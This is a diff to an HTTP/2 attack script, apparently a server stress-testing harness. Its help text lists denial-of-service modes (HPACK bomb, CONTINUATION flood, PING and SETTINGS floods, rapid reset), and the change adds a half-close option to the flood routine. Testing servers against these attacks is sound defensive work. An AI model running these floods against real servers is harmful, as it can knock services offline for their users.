@@ -8,7 +8,8 @@ Usage: h2attack.py ATTACK HOST PORT [options]
   hpack-bomb    one 4000-byte header in the HPACK dynamic table, then header blocks of one-byte
                 references to it (each decodes to ~4 KB) until the server closes.
   continuation  HEADERS without END_HEADERS, then CONTINUATION frames until the server closes.
-  ping          PING frames without reading (small receive buffer), then reads.
+  ping          PING frames without reading (small receive buffer), then reads (--half-close:
+                shuts its sending side down first).
   settings      SETTINGS frames without reading, then reads.
   rapid-reset   HEADERS + RST_STREAM(CANCEL) pairs until the server closes.
   zero-window   SETTINGS_INITIAL_WINDOW_SIZE 0, GET PATH: waits for the server's RST_STREAM.
@@ -286,6 +287,8 @@ def flood(a, kind):
             break
         sent += 64
     time.sleep(0.3)
+    if a.half_close:
+        c.s.shutdown(socket.SHUT_WR)  # done sending: the server must still flush its GOAWAY
     c.pump(3)
     print(f"frames_sent={sent}")
     outcome(c, started)
@@ -413,6 +416,7 @@ def main():
     ap.add_argument("--method", default="GET")
     ap.add_argument("--hold", type=float, default=0)
     ap.add_argument("--repeat", action="store_true")
+    ap.add_argument("--half-close", action="store_true")
     a = ap.parse_args()
     fn = {"bodies": bodies, "hpack-bomb": hpack_bomb, "continuation": continuation,
           "ping": lambda a: flood(a, "ping"), "settings": lambda a: flood(a, "settings"),
